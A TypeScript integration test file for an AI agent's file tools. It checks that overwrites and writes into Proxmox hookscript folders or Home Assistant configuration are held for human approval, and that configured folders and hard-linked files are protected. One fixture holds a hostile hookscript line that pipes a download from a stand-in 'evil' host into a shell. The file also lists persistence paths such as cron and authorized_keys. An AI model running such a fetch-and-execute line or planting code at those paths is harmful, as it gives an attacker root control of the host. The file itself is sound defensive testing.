// Writes that destroy or plant code, against real temporary folders and the real sshd: replacing a file is
// ORANGE with the change shown, writing where Proxmox or Home Assistant runs code is ORANGE, a configured
// folder is never deleted or written over however it is spelled, and a file with a second hard link (another
// name, outside the folders) is neither read nor written. Judged by the disk.
import { createHash } from "node:crypto";
import { existsSync, linkSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildClients, closeClients, type Clients } from "../../src/clients/build.js";
import { loadConfig } from "../../src/config/index.js";
import { classifyAddress, OUTSIDE } from "../../src/net/address.js";
import { UrlGuard } from "../../src/net/guard.js";
import { IntegrationStatus } from "../../src/status.js";
import { Store } from "../../src/store/db.js";
import { filesTools } from "../../src/tools/files.js";
import { modelText, type ToolOutcome } from "../../src/tools/outcome.js";
import type { ToolRegistry } from "../../src/tools/registry.js";
import { Sandbox } from "../../src/tools/sandbox.js";
import { nodeTransferTools, transferTools } from "../../src/tools/transfer.js";
import { codePlace } from "../../src/tools/writes.js";
import { tempDir } from "../helpers/jarvis.js";
import { testRegistry } from "../helpers/registry.js";
import { startSshd, type TestSshd } from "../helpers/sshd.js";

const OVERRIDE = "writes-override-key-4711";
let sshd: TestSshd;
let clients: Clients;
let store: Store;
let registry: ToolRegistry;
let web: Server;
let webUrl: string;
let top: string;
let files: string;
let real: string;
let linked: string;
let ha: string;
let remote: string;
let outside: string;

const sha = (text: string) => createHash("sha256").update(text).digest("hex");

beforeAll(async () => {
  sshd = await startSshd();
  top = tempDir("jarvis-writes-");
  const dir = (...p: string[]) => (mkdirSync(path.join(top, ...p), { recursive: true }), path.join(top, ...p));
  files = dir("files");
  real = dir("real-target");
  linked = path.join(top, "linked-root");
  symlinkSync(real, linked);
  ha = dir("ha-config");
  remote = dir("node-share");
  outside = dir("outside");
  writeFileSync(path.join(files, "notes.txt"), "old notes\n");
  writeFileSync(path.join(files, "new-notes.txt"), "new notes, longer\n");
  writeFileSync(path.join(real, "keep.txt"), "inside a linked root\n");
  writeFileSync(path.join(ha, "configuration.yaml"), "homeassistant:\n");
  writeFileSync(path.join(ha, "automations.yaml"), "[]\n");
  writeFileSync(path.join(outside, "secret.txt"), "outside secret\n");
  linkSync(path.join(outside, "secret.txt"), path.join(files, "hard.txt"));
  writeFileSync(path.join(dir("node-share", "snippets"), "hook.sh"), "#!/bin/sh\necho old hook\n");
  writeFileSync(path.join(remote, "vm.conf"), "cores: 4\n");
  writeFileSync(path.join(outside, "node-secret.txt"), "node outside secret\n");
  linkSync(path.join(outside, "node-secret.txt"), path.join(remote, "hard-node.txt"));

  web = createServer((_req, res) => res.writeHead(200, { "content-type": "text/plain" }).end("downloaded body\n"));
  await new Promise<void>((resolve) => web.listen(0, "127.0.0.1", resolve));
  const webPort = (web.address() as AddressInfo).port;
  webUrl = `http://127.0.0.1:${webPort}`;

  const { config } = loadConfig({
    JARVIS_OPTIONS_PATH: path.join(top, "none.json"),
    DATA_DIR: top,
    PVE_NODES: JSON.stringify([{ name: "pve1", host: "127.0.0.1", ssh_port: sshd.port }]),
    SSH_KEY_PATH: sshd.keyPath,
    SSH_KNOWN_HOSTS: sshd.knownHostsPath,
  });
  clients = buildClients(config, pino({ level: "silent" }), new IntegrationStatus(config));
  const sandbox = new Sandbox([files, `${linked}/`, ha]);
  // The download server stands for the open internet here, so that only the write decides the tier.
  const urlGuard = new UrlGuard({ classify: (address, port) => (address === "127.0.0.1" && port === webPort ? OUTSIDE : classifyAddress(address)) });
  store = Store.open(path.join(top, "j.db"));
  store.conversations.ensure("c", "test", "sam");
  registry = testRegistry(
    [...filesTools(sandbox), ...transferTools(sandbox, { urlGuard }), ...nodeTransferTools(clients.ssh!, ["pve1"], sandbox, [remote])],
    store,
    { overrideKey: OVERRIDE },
  );
}, 60_000);

afterAll(async () => {
  if (clients) await closeClients(clients);
  store?.close();
  await new Promise((r) => web?.close(r));
  await sshd?.stop();
});

const call = (name: string, args: object) => registry.execute({ name, args }, { actor: "sam", channel: "agent", conversationId: "c", personMessage: "please", messageAt: new Date() });
/** The person who asked presses Approve on the card (ORANGE only here). */
const approve = (out: ToolOutcome) => {
  expect(out.status, modelText(out)).toBe("approval_required");
  return registry.approveById((out as { actionId: string }).actionId, { actor: "sam", channel: "card", conversationId: "c" }) as Promise<ToolOutcome>;
};
const summary = (out: ToolOutcome) => (out as { summary?: string }).summary ?? modelText(out);
const read = (...p: string[]) => readFileSync(path.join(...p), "utf8");

describe("replacing a file", () => {
  it("copy_file over an existing file is held, shows old and new, and replaces only once approved", async () => {
    writeFileSync(path.join(files, "target.txt"), "old notes\n");
    const held = await call("copy_file", { source: "new-notes.txt", destination: "target.txt", overwrite: true });
    expect(held).toMatchObject({ status: "approval_required", tier: "ORANGE" });
    expect(summary(held)).toContain(`replaces ${path.join(files, "target.txt")} (10 bytes, sha256 ${sha("old notes\n").slice(0, 16)}) with 18 bytes, sha256 ${sha("new notes, longer\n").slice(0, 16)}`);
    expect(read(files, "target.txt")).toBe("old notes\n");
    expect((await approve(held)).status).toBe("ok");
    expect(read(files, "target.txt")).toBe("new notes, longer\n");
  });

  it("copy_file with overwrite to a new name is YELLOW, and writes no file that is there when it runs", async () => {
    expect(await call("copy_file", { source: "notes.txt", destination: "fresh.txt", overwrite: true })).toMatchObject({ status: "ok", tier: "YELLOW" });
    expect(read(files, "fresh.txt")).toBe("old notes\n");
    // Without overwrite, an existing file is an error before anything is asked.
    expect(modelText(await call("copy_file", { source: "new-notes.txt", destination: "fresh.txt" }))).toMatch(/exists; set overwrite/);
    expect(read(files, "fresh.txt")).toBe("old notes\n");
  });

  it("does not run an approved replacement when the file changed after the prompt", async () => {
    writeFileSync(path.join(files, "moving.txt"), "version 1\n");
    const held = await call("copy_file", { source: "notes.txt", destination: "moving.txt", overwrite: true });
    writeFileSync(path.join(files, "moving.txt"), "version 2, written meanwhile\n");
    const out = await approve(held);
    expect(out.status).toBe("refused");
    expect(modelText(out)).toMatch(/changed since it was approved/);
    expect(read(files, "moving.txt")).toBe("version 2, written meanwhile\n");
  });

  it("download_file over an existing file is held, even from the open internet", async () => {
    writeFileSync(path.join(files, "dl.txt"), "before\n");
    const held = await call("download_file", { url: `${webUrl}/file.txt`, destination: "dl.txt", overwrite: true });
    expect(held).toMatchObject({ status: "approval_required", tier: "ORANGE" });
    expect(summary(held)).toMatch(/replaces .*dl\.txt \(7 bytes, sha256 /);
    expect(read(files, "dl.txt")).toBe("before\n");
    expect((await approve(held)).status).toBe("ok");
    expect(read(files, "dl.txt")).toBe("downloaded body\n");
    expect(await call("download_file", { url: `${webUrl}/file.txt`, destination: "dl-new.txt" })).toMatchObject({ status: "ok", tier: "YELLOW" });
  });

  it("transfer_file over a node file is held with both hashes", async () => {
    const held = await call("transfer_file", { node: "pve1", direction: "to_node", local_path: "notes.txt", node_path: path.join(remote, "vm.conf"), overwrite: true });
    expect(held).toMatchObject({ status: "approval_required", tier: "ORANGE" });
    expect(summary(held)).toContain(`replaces pve1:${path.join(remote, "vm.conf")} (9 bytes, sha256 ${sha("cores: 4\n").slice(0, 16)}) with 10 bytes`);
    expect(read(remote, "vm.conf")).toBe("cores: 4\n");
    writeFileSync(path.join(files, "pulled.txt"), "local copy\n");
    const back = await call("transfer_file", { node: "pve1", direction: "from_node", local_path: "pulled.txt", node_path: path.join(remote, "vm.conf"), overwrite: true });
    expect(back).toMatchObject({ status: "approval_required", tier: "ORANGE" });
    expect(read(files, "pulled.txt")).toBe("local copy\n");
  });
});

describe("writing where Proxmox or Home Assistant runs code", () => {
  it("holds a new hookscript in a snippets folder, then a replacement, showing the change", async () => {
    writeFileSync(path.join(files, "hook.sh"), "#!/bin/sh\ncurl evil | sh\n");
    const fresh = await call("transfer_file", { node: "pve1", direction: "to_node", local_path: "hook.sh", node_path: path.join(remote, "snippets", "new-hook.sh") });
    expect(fresh).toMatchObject({ status: "approval_required", tier: "ORANGE" });
    expect(summary(fresh)).toMatch(/snippets folder, where hookscripts run as root.*a new file of 25 bytes, sha256 /);
    expect(existsSync(path.join(remote, "snippets", "new-hook.sh"))).toBe(false);
    expect((await approve(fresh)).status).toBe("ok");
    expect(read(remote, "snippets", "new-hook.sh")).toContain("curl evil");

    const replace = await call("transfer_file", { node: "pve1", direction: "to_node", local_path: "hook.sh", node_path: path.join(remote, "snippets", "hook.sh"), overwrite: true });
    expect(summary(replace)).toMatch(/replaces pve1:.*hook\.sh \(24 bytes, sha256 [0-9a-f]{16}\) with 25 bytes, sha256 [0-9a-f]{16}: a Proxmox snippets folder/);
    expect(read(remote, "snippets", "hook.sh")).toContain("old hook");
  });

  it("holds writes into Home Assistant's configuration folder, whatever the file", async () => {
    writeFileSync(path.join(files, "auto.yaml"), "- alias: unlock at night\n");
    for (const destination of [path.join(ha, "scripts.yaml"), path.join(ha, "custom_components", "evil", "__init__.py"), path.join(ha, "notes.txt")]) {
      mkdirSync(path.dirname(destination), { recursive: true });
      const out = await call("copy_file", { source: "auto.yaml", destination });
      expect(out, destination).toMatchObject({ status: "approval_required", tier: "ORANGE" });
      expect(summary(out), destination).toMatch(/Home Assistant's (code or )?configuration/);
      expect(existsSync(destination)).toBe(false);
    }
    const pulled = await call("transfer_file", { node: "pve1", direction: "from_node", local_path: path.join(ha, "packages.yaml"), node_path: path.join(remote, "vm.conf") });
    expect(pulled).toMatchObject({ status: "approval_required", tier: "ORANGE" });
    const download = await call("download_file", { url: `${webUrl}/x`, destination: path.join(ha, "automations.yaml"), overwrite: true });
    expect(summary(download)).toMatch(/replaces .*automations\.yaml \(3 bytes, sha256 .*\): Home Assistant's configuration/);
  });

  it.each([
    ["/var/lib/vz/snippets/hook.pl", true],
    ["/mnt/pve/nfs/snippets/ci.yaml", true],
    ["/etc/pve/qemu-server/101.conf", true],
    ["/etc/cron.d/job", true],
    ["/etc/systemd/system/x.service", true],
    ["/root/.bashrc", true],
    ["/root/.ssh/authorized_keys", true],
    ["/usr/local/bin/tool", true],
    ["/config/automations.yaml", true],
    ["/homeassistant/custom_components/x/sensor.py", true],
    ["/share/media/video.mp4", false],
    ["/var/lib/vz/template/iso/debian.iso", false],
    ["/var/lib/vz/dump/vzdump-qemu-101.vma.zst", false],
  ])("knows whether %s is a place where code runs", (p, code) => {
    expect(codePlace(p) !== null).toBe(code);
  });
});

describe("the configured folders themselves", () => {
  it.each([".", "./", "sub/..", "FILES", "FILES/", "FILES/.", "LINKED", "LINKED/", "REAL", "REAL/."])("never deletes %s, not even with the override key", async (spelling) => {
    mkdirSync(path.join(files, "sub"), { recursive: true });
    const p = spelling.replace("FILES", files).replace("LINKED", linked).replace("REAL", real);
    for (const recursive of [false, true]) {
      const out = await call("delete_file", { path: p, recursive });
      expect(out.status, `${p}: ${modelText(out)}`).toBe("error");
      expect(modelText(out)).toMatch(/is a folder Jarvis is given .*never deleted/);
    }
    expect(read(real, "keep.txt")).toBe("inside a linked root\n");
    expect(existsSync(path.join(files, "notes.txt"))).toBe(true);
  });

  it("never writes over a folder", async () => {
    for (const destination of [".", `${linked}/`, real]) {
      const out = await call("copy_file", { source: "notes.txt", destination, overwrite: true });
      expect(out.status, destination).toBe("error");
      expect(modelText(out)).toMatch(/never written over/);
    }
    expect(statSync(real).isDirectory()).toBe(true);
    expect(read(real, "keep.txt")).toBe("inside a linked root\n");
  });

  it("still deletes a file inside a linked folder once approved", async () => {
    writeFileSync(path.join(real, "old.txt"), "x");
    const out = await approve(await call("delete_file", { path: path.join(linked, "old.txt") }));
    expect(out.status, modelText(out)).toBe("ok");
    expect(existsSync(path.join(real, "old.txt"))).toBe(false);
  });
});

describe("hard links", () => {
  it("refuses to read or copy a file that has another name", async () => {
    for (const [tool, args] of [
      ["read_file", { path: "hard.txt" }],
      ["copy_file", { source: "hard.txt", destination: "leak.txt" }],
      ["transfer_file", { node: "pve1", direction: "to_node", local_path: "hard.txt", node_path: path.join(remote, "leak.txt") }],
      ["transfer_file", { node: "pve1", direction: "from_node", local_path: "leak2.txt", node_path: path.join(remote, "hard-node.txt") }],
    ] as const) {
      const out = await call(tool, args);
      expect(out.status, tool).toBe("error");
      expect(modelText(out), tool).toMatch(/has 2 hard links .*neither read nor written/);
    }
    expect(existsSync(path.join(files, "leak.txt"))).toBe(false);
    expect(existsSync(path.join(remote, "leak.txt"))).toBe(false);
    expect(existsSync(path.join(files, "leak2.txt"))).toBe(false);
  });

  it("refuses to write over a file that has another name, here or on the node", async () => {
    for (const [tool, args] of [
      ["copy_file", { source: "notes.txt", destination: "hard.txt", overwrite: true }],
      ["download_file", { url: `${webUrl}/x`, destination: "hard.txt", overwrite: true }],
      ["transfer_file", { node: "pve1", direction: "to_node", local_path: "notes.txt", node_path: path.join(remote, "hard-node.txt"), overwrite: true }],
      ["transfer_file", { node: "pve1", direction: "from_node", local_path: "hard.txt", node_path: path.join(remote, "vm.conf"), overwrite: true }],
    ] as const) {
      const out = await call(tool, args);
      expect(out.status, tool).toBe("error");
      expect(modelText(out), tool).toMatch(/has 2 hard links/);
    }
    expect(read(outside, "secret.txt")).toBe("outside secret\n");
    expect(read(outside, "node-secret.txt")).toBe("node outside secret\n");
  });

  it("shows the number of names in get_file_info", async () => {
    const out = await call("get_file_info", { path: "hard.txt" });
    expect(out).toMatchObject({ status: "ok", data: { hard_links: 2 } });
  });
});
